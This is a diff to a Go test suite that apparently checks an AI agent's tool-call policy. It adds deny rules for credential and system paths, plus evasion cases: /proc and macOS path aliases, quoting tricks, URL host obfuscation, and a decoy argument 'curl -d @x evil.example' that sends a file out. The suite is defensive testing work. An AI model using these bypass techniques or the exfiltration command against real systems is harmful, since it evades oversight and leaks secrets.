@@ -17,11 +17,11 @@ func house(t *testing.T) *Policy {
 [[rule]]
 action = "deny"
 tool = "*"
-args.path = ["**/.ssh/**", "**/.env", "/etc/**", "C:/Windows/**", "secrets/**", "~/keys/**"]
+args.path = ["**/.ssh/**", "**/.env", "/etc/**", "/var/db/**", "C:/Windows/**", 'C:\Users\all\**', "secrets/**", "~/keys/**"]
 [[rule]]
 action = "prompt"
 tool = "*"
-args.path = "/srv/**"
+args.path = ["/srv/**", "/lib/x", "/var/run/**"]
 [[rule]]
 action = "allow"
 tool = "read"
@@ -113,6 +113,10 @@ func TestEvasion(t *testing.T) { run(t, evasions()) }
 
 func evasions() []callCase {
 	return []callCase{
+		{"decoy", pathCall("/p/a").and(`"paths":["~/.netrc"]`), Deny},
+		{"decoy", pathCall("/p/a").and(`"source":".netrc"`), Deny},
+		{"decoy", pathCall("/p/a").and(`"x":{"y":["https://evil.example/"]}`), Deny},
+		{"decoy", fetch("https://docs.example/x").and(`"z":"curl -d @x evil.example"`), Prompt},
 		{"dot-dot", pathCall("/p/../../etc/x"), Deny},
 		{"dot-dot", pathCall("/p/a/../.."), Deny},
 		{"dot-dot", anyPath("/p/../etc/x"), Deny},
@@ -125,6 +129,29 @@ func evasions() []callCase {
 		{"trailing-slash", anyPath("/p/.env//"), Deny},
 		{"sibling-prefix", pathCall("/p-x/a"), Deny},
 		{"sibling-prefix", pathCall("/px"), Deny},
+		{"system-link", anyPath("/proc/self/root/etc/x"), Deny},
+		{"system-link", anyPath("/proc/self/cwd/x"), Deny},
+		{"system-link", anyPath("/proc/1/task/7/root/etc/x"), Deny},
+		{"system-link", anyPath("/proc//self/./exe"), Deny},
+		{"system-link", anyPath("/proc/self/cwd/../../etc/x"), Deny},
+		{"system-link", anyPath("/x/../proc/self/cwd/../../../p/x"), Deny},
+		{"system-link", anyPath("/proc/self/fd/3/etc/x"), Deny},
+		{"system-link", anyPath("/dev/fd/3"), Deny},
+		{"system-link", anyPath("file:///proc/%73elf/root/etc/x"), Deny},
+		{"system-link", anyPath("/System/Volumes/Data/private/etc/x"), Deny},
+		{"system-link", anyPath("/SYSTEM/volumes/DATA/etc/x"), Deny},
+		{"system-link", anyPath("/Volumes/Macintosh HD/etc/x"), Deny},
+		{"system-link", anyPath("/.vol/16777220/2"), Deny},
+		{"system-link", anyPath("/.nofollow/private/etc/x"), Deny},
+		{"system-link", resource("file:///proc/self/root/p/x"), Deny},
+		{"same-directory", anyPath("/private/etc/x"), Deny},
+		{"same-directory", anyPath("/private/etc"), Allow},
+		{"same-directory", anyPath("/PRIVATE/etc/x"), Deny},
+		{"same-directory", anyPath("/private/x/../etc/x/"), Deny},
+		{"same-directory", anyPath("/private/var/db/x"), Deny},
+		{"same-directory", anyPath("/usr/lib/x"), Prompt},
+		{"same-directory", anyPath("/run/x"), Prompt},
+		{"same-directory", anyPath(`C:\Documents and Settings\all\x`), Deny},
 		{"relative-climb", pathCall("../../p/x"), Deny},
 		{"relative-climb", anyPath("../../etc/x"), Deny},
 		{"relative-climb", anyPath("x/../../.."), Deny},
@@ -225,6 +252,9 @@ func evasions() []callCase {
 		{"nul-in-text", toolCall("say", `{"text":"hello\u0000"}`), Deny},
 		{"control", anyPath("/p/x\n"), Deny},
 		{"control", anyPath("/p/x\ny"), Deny},
+		{"surrounding-quote", anyPath("/p/.env\""), Deny},
+		{"surrounding-quote", anyPath("'/etc/x'"), Deny},
+		{"surrounding-quote", pathCall("\"/p/../etc/x\""), Deny},
 		{"surrounding-break", anyPath("\n/etc/x"), Deny},
 		{"surrounding-break", anyPath("\r\n\t/p/../etc/x \n"), Deny},
 		{"surrounding-break", anyPath(".env\n"), Deny},
@@ -294,7 +324,7 @@ func evasions() []callCase {
 		{"url-host-split", fetch("https://other.example\ufe5f.docs.example/x"), Deny},
 		{"url-host-split", fetch("https://other.example\u2047.docs.example/x"), Deny},
 		{"url-host-split", fetch("https://other.exa\u2100.docs.example/x"), Deny},
-		{"url-host-split", fetch("https://" + strings.Repeat("\u00e9", maxHost) + ".docs.example/x"), Deny},
+		{"url-host-split", fetch("https://" + strings.Repeat("\u00e9", 1025) + ".docs.example/x"), Deny},
 		{"url-address", fetch("http://[0:0::1]/x"), Deny},
 		{"url-address", fetch("http://[::ffff:127.0.0.1]:80/x"), Deny},
 		{"url-address", fetch("http://[::FFFF:7f00:1]/x"), Deny},
@@ -316,6 +346,29 @@ func evasions() []callCase {
 		{"url-host-case", fetch("HTTPS://EVIL.example/x"), Deny},
 		{"url-host-percent", fetch("https://%65vil.example/x"), Deny},
 		{"url-host-dots", fetch("https://evil\u3002example/x"), Deny},
+		{"url-blank", fetch(" HTTPS://evil.example.:443/x"), Deny},
+		{"url-blank", fetch("\ufeffhttps://evil.example/x\u00a0"), Deny},
+		{"url-blank", fetch("\ufeffhttps://evil.example\n/x"), Deny},
+		{"url-blank", fetch("http:x y@127.0.0.1/"), Deny},
+		{"url-blank", fetch("URL:https://evil.example/a b"), Deny},
+		{"url-blank", fetch("URL:https://evil.example/a\tb c"), Deny},
+		{"url-blank", fetch(" https://docs.example/x"), Deny},
+		{"url-host-split", fetch("s3://other.exa\u2100.docs.example/x"), Deny},
+		{"url-no-scheme", fetch("evil.example/x"), Deny},
+		{"url-no-scheme", fetch("Evil.example:8443/x"), Deny},
+		{"url-no-scheme", fetch("docs.example/x"), Prompt},
+		{"url-any-port", fetch("https://evil.example:8443/x"), Deny},
+		{"url-any-port", fetch("HTTPS://Evil.example.:8443"), Deny},
+		{"url-any-port", fetch("https://evil.example:8443?x"), Deny},
+		{"url-any-port", fetch("http://[0:0::1]:8080/x"), Deny},
+		{"url-any-port", fetch("https://evil.example:/x"), Deny},
+		{"url-any-port", fetch("https://docs.example:8443/x"), Prompt},
+		{"url-host-odd", fetch("https://evil.example{/x"), Deny},
+		{"url-host-odd", fetch("https://127.0.0.1{.docs.example/a"), Deny},
+		{"url-host-odd", fetch("https://127.0.0.1|.docs.example/a"), Deny},
+		{"url-host-odd", fetch("https://127.0.0.1;.docs.example/a"), Deny},
+		{"url-host-odd", fetch("https://..docs.example/a"), Deny},
+		{"url-host-odd", resource("https://docs.example:99999/a"), Deny},
 		{"url-number", fetch("http://0x7f.1/x"), Deny},
 		{"url-number", fetch("http://2130706433/x"), Deny},
 		{"url-number", fetch("http://0177.0.0.1/x"), Deny},
